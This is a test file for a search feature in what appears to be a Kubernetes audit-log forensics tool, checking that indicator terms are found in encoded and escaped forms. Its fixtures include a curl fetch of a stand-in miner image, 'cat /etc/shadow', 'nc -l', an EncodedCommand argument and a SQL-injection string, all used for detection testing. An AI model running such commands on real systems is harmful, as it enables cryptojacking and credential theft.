import {join} from 'node:path'
import {beforeAll, describe, expect, test} from 'vitest'
import {search, type SearchQuestion} from '../../../src/investigations/search/search.ts'
import {parseTermList} from '../../../src/investigations/search/terms.ts'
import {plainText, type Plain} from '../../../src/output/answer.ts'
import {auditEvent, logText, manyEvents, type AuditEvent} from '../../support/audit-event.ts'
import {emptyCaseIn, load} from '../../support/built-loader.ts'
import {askCase, caseOfEvents, type Told} from '../../support/ask-case.ts'
import type {TestQuestion} from '../../support/question.ts'
import {newFolder, writeInto} from '../../support/scratch.ts'

const ask = (
  path: string,
  terms: string | readonly string[],
  asked: TestQuestion & Omit<SearchQuestion, 'terms'> = {},
) => {
  const {ignoreCase, field, context, ...rest} = asked
  return askCase(path, rest, (caseFile, question) =>
    search(caseFile, question, {terms: typeof terms === 'string' ? [terms] : terms, ignoreCase, field, context}),
  )
}

const told = ({rows}: Told, ...columns: string[]): Plain[][] =>
  rows.map((row) => columns.map((column) => row[column] ?? null))

let nth = 0
/** An event of its own second, with a body. */
function event(changes: AuditEvent): AuditEvent {
  nth++
  const at = new Date(Date.UTC(2026, 2, 1, 10) + nth * 1000).toISOString().replace('Z', '000Z')
  return auditEvent({
    auditID: `e-${nth}`,
    level: 'RequestResponse',
    requestReceivedTimestamp: at,
    stageTimestamp: at,
    ...changes,
  })
}
const body = (value: unknown): AuditEvent => event({verb: 'create', requestObject: value})
const uri = (query: string): AuditEvent => event({requestURI: `/api/v1/namespaces/prod/pods/web/exec?${query}`})
const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string =>
  Buffer.from(text, encoding).toString('base64')

/** One event for each way in which a term is written; the audit ID tells which. */
async function formsOf(events: Readonly<Record<string, AuditEvent>>): Promise<string> {
  return caseOfEvents([Object.entries(events).map(([auditID, one]) => ({...one, auditID}))])
}

describe('the forms of a term', () => {
  let path: string

  beforeAll(async () => {
    path = await formsOf({
      image: body({spec: {containers: [{name: 'a', image: 'evil.example/miner:1'}]}}),
      query: uri('command=curl&command=http%3A%2F%2Fevil.example%2Fminer%3A1'),
      lower: uri('command=http%3a%2f%2fevil.example%2fminer:1'),
      twice: uri('command=evil.example%252Fminer%253A1'),
      letters: uri('command=%65vil.example/miner%3A1'),
      zero: body({data: {a: base64('evil.example/miner:1')}}),
      one: body({data: {a: base64('xevil.example/miner:1 and more')}}),
      two: body({data: {a: base64('xxevil.example/miner:1 and more')}}),
      padded: body({data: {a: base64('set IMAGE=evil.example/miner:1')}}),
      wide: body({spec: {args: ['-EncodedCommand', base64('run evil.example/miner:1', 'utf16le')]}}),
      urlSafe: body({data: {a: base64('??>>evil.example/miner:1>>??').replaceAll('+', '-').replaceAll('/', '_')}}),
      nested: body({
        metadata: {
          annotations: {
            'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify({image: 'evil.example/miner:1'}),
          },
        },
      }),
      none: body({spec: {containers: [{name: 'a', image: 'good.example/miner:1'}]}}),
    })
  })

  test('are all found, verified, and told', async () => {
    const answer = await ask(path, 'evil.example/miner:1')
    expect(told(answer, 'audit_id', 'field', 'how')).toEqual([
      ['image', 'requestObject.spec.containers[0].image', 'plain'],
      ['query', 'requestURI', 'url'],
      ['lower', 'requestURI', 'url'],
      ['twice', 'requestURI', 'url'],
      ['letters', 'requestURI', 'url'],
      ['zero', 'requestObject.data.a', 'base64'],
      ['one', 'requestObject.data.a', 'base64'],
      ['two', 'requestObject.data.a', 'base64'],
      ['padded', 'requestObject.data.a', 'base64'],
      ['wide', 'requestObject.spec.args[1]', 'base64'],
      ['urlSafe', 'requestObject.data.a', 'base64'],
      ['nested', 'requestObject.metadata.annotations["kubectl.kubernetes.io/last-applied-configuration"]', 'plain'],
    ])
    expect(answer.rows.every((row) => plainText(row['match']).includes('evil.example/miner:1'))).toBe(true)
    expect(answer.rows[0]).toMatchObject({
      user_name: 'alice',
      verb: 'create',
      stage: 'ResponseComplete',
      record: 'event',
    })
    expect(plainText(answer.rows[0]?.['evidence'])).toMatch(/audit-0\.log:1$/)
  })

  test('are found in lower and upper case where asked for', async () => {
    expect((await ask(path, 'EVIL.example/MINER:1')).rows).toEqual([])
    const folded = await ask(path, 'EVIL.example/MINER:1', {ignoreCase: true})
    expect(folded.rows).toHaveLength(12)
    expect(folded.answer.filters).toMatchObject({ignore_case: true})
  })

  test('are the same of many terms, which are scanned for otherwise', async () => {
    const many = ['evil.example/miner:1', ...Array.from({length: 40}, (_, i) => `other-${i}.example`)]
    const one = await ask(path, 'evil.example/miner:1')
    const all = await ask(path, many)
    expect(all.rows).toEqual(one.rows)
    expect(all.answer.warnings.join()).toContain('Not found: other-0.example')
    expect(all.answer.warnings.join()).toContain('40 of 41 terms')
    const folded = await ask(
      path,
      many.map((term) => term.toUpperCase()),
      {ignoreCase: true},
    )
    expect(told(folded, 'audit_id', 'field', 'how')).toEqual(told(one, 'audit_id', 'field', 'how'))
  })

  test('can be asked of some fields alone', async () => {
    const answer = await ask(path, 'evil.example/miner:1', {field: 'requestObject.spec.*'})
    expect(told(answer, 'audit_id')).toEqual([['image'], ['wide']])
    expect((await ask(path, 'evil.example/miner:1', {field: 'userAgent'})).rows).toEqual([])
  })
})

describe('escapes', () => {
  test('of Go, of others, nested and odd ones hide nothing', async () => {
    const folder = newFolder()
    const odd = logText([body({data: 'x'})]).replace('"data":"x"', String.raw`"data":"\u0065vil\u002dsite"`)
    const python = logText([body({data: 'x'})]).replace('"data":"x"', String.raw`"data":"M\u00fcller"`)
    const twin = logText([body({data: 'x'})]).replace('"data":"x"', '"data":"evil-twin","data":"y"')
    const plain = `${JSON.stringify(body({data: 'a<b>&"c"\\d\u2028e'}))}\n`
    const go = logText([body({data: 'a<b>&"c"\\d\u2028e'}), body({data: JSON.stringify({v: 'a<b>&"c"\\d\u2028e'})})])
    writeInto(
      folder,
      'logs/a.log',
      odd + python + twin + plain + go + logText([body({data: 'Müller'}), uri('q=M%C3%BCller')]),
    )
    const path = await emptyCaseIn(folder)
    await load(path, [join(folder, 'logs')])

    expect(told(await ask(path, 'evil-site'), 'field', 'how', 'match')).toEqual([
      ['requestObject.data', 'json', 'evil-site'],
    ])
    expect(told(await ask(path, 'Müller'), 'field', 'how')).toEqual([
      ['requestObject.data', 'json'],
      ['requestObject.data', 'plain'],
      ['requestURI', 'url'],
    ])
    expect(told(await ask(path, 'MÜLLER', {ignoreCase: true}), 'field')).toHaveLength(3)
    expect(told(await ask(path, 'evil-twin'), 'field', 'how')).toEqual([['raw', 'plain']])
    expect(told(await ask(path, 'a<b>&"c"\\d\u2028e'), 'field', 'how')).toEqual([
      ['requestObject.data', 'json'],
      ['requestObject.data', 'json'],
      ['requestObject.data', 'json'],
    ])
  })

  test('of blanks in a query are blanks', async () => {
    const path = await formsOf({
      plus: uri('command=cat+shadow'),
      percent: uri('command=cat%20shadow'),
      mixed: uri('command=cat+%2Fetc%2Fshadow'),
      literal: uri('command=cat%2Bshadow'),
    })
    expect(told(await ask(path, 'cat shadow'), 'audit_id', 'how', 'field')).toEqual([
      ['plus', 'url', 'requestURI'],
      ['percent', 'url', 'requestURI'],
    ])
    expect(told(await ask(path, 'cat /etc/shadow'), 'audit_id')).toEqual([['mixed']])
    expect(told(await ask(path, 'cat+shadow'), 'audit_id')).toEqual([['plus'], ['literal']])
  })

  test('do not keep a piece of JSON from being found', async () => {
    const path = await formsOf({a: event({verb: 'delete'}), b: event({verb: 'get'})})
    expect(told(await ask(path, '"verb":"delete"'), 'audit_id', 'field', 'how')).toEqual([['a', 'raw', 'plain']])
  })
})

describe('hits by chance', () => {
  test('are none: base64 that only looks so, and a URI that does not decode to the term', async () => {
    const path = await formsOf({
      // The piece that base64 of "password" has at the second place stands in this text too, at another.
      chance: body({data: {a: `AA${base64('xpassword').slice(2)}`}}),
      true: body({data: {a: base64('xpassword')}}),
      percent: uri('command=100%25+pass%word'),
    })
    const ids = told(await ask(path, 'password'), 'audit_id', 'match')
    expect(ids.every(([, match]) => plainText(match).includes('password'))).toBe(true)
    expect(ids.map(([id]) => id)).toContain('true')
    expect(ids.map(([id]) => id)).not.toContain('percent')
  })

  test('short terms are not looked for in base64, and that is said', async () => {
    const path = await formsOf({a: body({data: {a: base64('xxnc -l')}}), b: body({command: ['nc', '-l']})})
    const answer = await ask(path, 'nc')
    expect(told(answer, 'audit_id')).toEqual([['b']])
    expect(answer.answer.warnings.join()).toContain('fewer than 4 bytes (nc)')
  })
})

describe('what is searched', () => {
  test('is every stage, keys too, and nothing is left out as noise', async () => {
    const system = {username: 'system:kube-scheduler', groups: ['needle-group']}
    const path = await caseOfEvents([
      [
        event({auditID: 'a', stage: 'RequestReceived', responseStatus: undefined, user: system}),
        ...manyEvents(150, 0, () => ({user: {username: 'system:kube-scheduler'}, userAgent: 'kube-scheduler/v1'})),
        event({auditID: 'b', annotations: {'needle-group/key': 'x'}, user: {username: 'eve'}}),
      ],
    ])
    expect(told(await ask(path, 'needle-group', {forPeople: true, limit: 100}), 'audit_id', 'field', 'stage')).toEqual([
      ['a', 'user.groups[0]', 'RequestReceived'],
      ['b', 'annotations["needle-group/key"]', 'ResponseComplete'],
    ])
  })

  test('is one row an event and term, with every field', async () => {
    const path = await formsOf({a: event({user: {username: 'mallory'}, requestURI: '/api/mallory'})})
    const {rows} = await ask(path, ['mallory', 'alice', 'api'])
    expect(rows.map((row) => [row['term'], row['field'], row['fields']])).toEqual([
      ['mallory', 'requestURI', ['requestURI', 'user.username']],
      ['api', 'apiVersion', expect.arrayContaining(['apiVersion', 'requestURI'])],
    ])
  })

  test('is a reject as well, which no filter applies to', async () => {
    const folder = newFolder()
    writeInto(folder, 'logs/a.log', `${logText([event({auditID: 'a'})])}{"torn": "needle-1", \nnot needle-1 either\n`)
    const path = await emptyCaseIn(folder)
    await load(path, [join(folder, 'logs')])
    const {rows, answer} = await ask(path, 'needle-1')
    const rejects = rows.filter((row) => row['record'] === 'reject')
    expect(rejects.length).toBeGreaterThan(0)
    expect(rejects[0]).toMatchObject({
      time: null,
      field: 'raw',
      evidence: expect.stringMatching(/a\.log:2$/) as unknown,
    })
    expect(answer.warnings.join()).toMatch(/rejected records? holds? the term \(.*a\.log:2/)
    const filtered = await ask(path, 'needle-1', {namespace: 'prod'})
    expect(filtered.rows).toEqual([])
    expect(filtered.answer.warnings.join()).toContain('not among the rows')
  })

  test('is a copy with a text of its own as well', async () => {
    const one = event({auditID: 'a'})
    const path = await caseOfEvents([[one, {...one, forwarder: 'needle-in-copy'}]])
    const {rows, answer} = await ask(path, 'needle-in-copy')
    expect(rows).toMatchObject([{record: 'copy', audit_id: 'a', field: 'forwarder', user_name: 'alice'}])
    expect(rows[0]?.['evidence']).toMatch(/audit-0\.log:2$/)
    expect(answer.warnings).toEqual(['1 hit is in copies whose text is not that of the stored event.'])
    expect((await ask(path, 'needle-in-copy', {user: 'bob'})).rows).toEqual([])
  })

  test('is all of it in data, also where that is too much to hold', async () => {
    const path = await caseOfEvents([manyEvents(5300)])
    const {rows} = await ask(path, 'configmaps')
    expect(rows).toHaveLength(5300)
    expect(new Set(rows.map((row) => row['audit_id'])).size).toBe(5300)
    const times = rows.map((row) => plainText(row['time']))
    expect(times).toEqual([...times].sort())
  })

  test('is narrowed by the common filters', async () => {
    const path = await caseOfEvents([
      [
        event({auditID: 'a', requestURI: '/needle', requestReceivedTimestamp: '2026-03-01T11:00:00.000000Z'}),
        event({
          auditID: 'b',
          requestURI: '/needle',
          user: {username: 'bob'},
          objectRef: {resource: 'pods', namespace: 'dev'},
          requestReceivedTimestamp: '2026-03-01T12:00:00.000000Z',
        }),
        event({
          auditID: 'c',
          requestURI: '/needle',
          user: {username: 'bob'},
          impersonatedUser: {username: 'alice'},
          requestReceivedTimestamp: '2026-03-01T13:00:00.000000Z',
        }),
      ],
    ])
    const ids = async (asked: TestQuestion): Promise<Plain[]> =>
      told(await ask(path, '/needle', asked), 'audit_id').map(([id]) => id ?? null)
    expect(await ids({})).toEqual(['a', 'b', 'c'])
    expect(await ids({namespace: 'd*'})).toEqual(['b'])
    expect(await ids({user: 'alice'})).toEqual(['a', 'c'])
    expect(await ids({since: '2026-03-01T12:00:00Z', until: '2026-03-01T13:00:00Z'})).toEqual(['b'])
    expect(await ids({limit: 2})).toEqual(['a', 'b'])
  })
})

describe('a report', () => {
  test('shows a request once, counts what is beyond the limit, and names terms that are nowhere', async () => {
    const folded = await caseOfEvents([
      [
        {
          ...event({auditID: 'x'}),
          stage: 'RequestReceived',
          responseStatus: undefined,
          requestReceivedTimestamp: '2026-03-01T10:00:00.000000Z',
        },
        {...event({auditID: 'x'}), requestReceivedTimestamp: '2026-03-01T10:00:00.000000Z'},
      ],
    ])
    const {report, rows} = await ask(folded, 'kubectl', {forPeople: true, limit: 100})
    expect(rows).toHaveLength(2)
    expect(report).toContain('2 events of 1 request hold')
    expect(report).toContain('1 row is another stage of a request above')
    expect(rows.map((row) => row['stage'])).toEqual(['RequestReceived', 'ResponseComplete'])
    expect(report).toContain('read secret db in prod')

    const many = await caseOfEvents([[...manyEvents(300), event({userAgent: 'rare-client/1'})]])
    const limited = await ask(many, ['configmaps', 'rare-client', 'nowhere-at-all'], {forPeople: true, limit: 10})
    expect(limited.rows).toHaveLength(10)
    expect(limited.report).toContain('Up to 291 more events beyond the limit')
    expect(limited.answer.warnings.join()).toContain('Not found: nowhere-at-all')
    expect(limited.answer.warnings.join()).not.toContain('rare-client')
  })

  test('says what it searched where nothing was found', async () => {
    const path = await caseOfEvents([[event({})]])
    const {report, answer} = await ask(path, 'nowhere', {forPeople: true, limit: 100})
    expect(report).toContain('No event of the log holds \\"nowhere\\"')
    expect(report).toContain('Bodies are in the log only where')
    expect(answer.warnings).toContain('Not found: nowhere.')
  })
})

describe('context', () => {
  test('is the requests of the same identity around each hit, each once', async () => {
    const users = ['eve', 'bob', 'eve', 'eve', 'bob', 'eve', 'eve', 'eve']
    const events = users.map((username, i) =>
      event({auditID: `c${i}`, user: {username}, requestURI: i === 3 || i === 5 ? '/needle' : `/${i}`}),
    )
    const path = await caseOfEvents([events])
    const answer = await ask(path, '/needle', {context: 1})
    expect(told(answer, 'audit_id', 'hit', 'field')).toEqual([
      ['c2', false, null],
      ['c3', true, 'requestURI'],
      ['c5', true, 'requestURI'],
      ['c6', false, null],
    ])
    expect(told(await ask(path, '/needle'), 'audit_id')).toEqual([['c3'], ['c5']])
    expect((await ask(path, '/needle')).answer.columns.map(({name}) => name)).not.toContain('hit')
    const {report} = await ask(path, '/needle', {context: 2, forPeople: true, limit: 100})
    expect(report).toContain('">"')
  })
})

describe('terms', () => {
  test('are lines of a list', () => {
    expect(parseTermList('\ufeff# iocs\r\n\r\n  evil.example \r\na#b\n#c\n')).toEqual(['evil.example', 'a#b'])
    expect(() => parseTermList('a\0b')).toThrow(/no text/)
  })

  test('that mean nothing are refused', async () => {
    const path = await caseOfEvents([[event({})]])
    await expect(ask(path, [])).rejects.toThrow(/nothing to search for/)
    await expect(ask(path, [''])).rejects.toThrow(/empty term/)
  })

  test('that are hostile are text and nothing else', async () => {
    const hostile = [
      "'; DROP TABLE events; --",
      '$needles',
      '(?i:.*',
      '%',
      '\\',
      '\\u0041',
      '*[a-z]?',
      '\u001b[31m',
      '"}',
      '\u202e',
      '😀',
    ]
    const path = await formsOf(Object.fromEntries(hostile.map((text, i) => [`h${i}`, body({data: `<${text}>`})])))
    for (const [i, text] of hostile.entries()) {
      const ids = told(await ask(path, text), 'audit_id').map(([id]) => id)
      expect(ids, text).toContain(`h${i}`)
    }
    expect(told(await ask(path, '(?i:.*'), 'audit_id')).toEqual([['h2']])
  })

  test('of any length are found', async () => {
    const long = 'ab-'.repeat(3000)
    const path = await formsOf({a: body({data: `x${long}y`}), b: body({data: long.slice(3)})})
    expect(told(await ask(path, long), 'audit_id')).toEqual([['a']])
  })
})
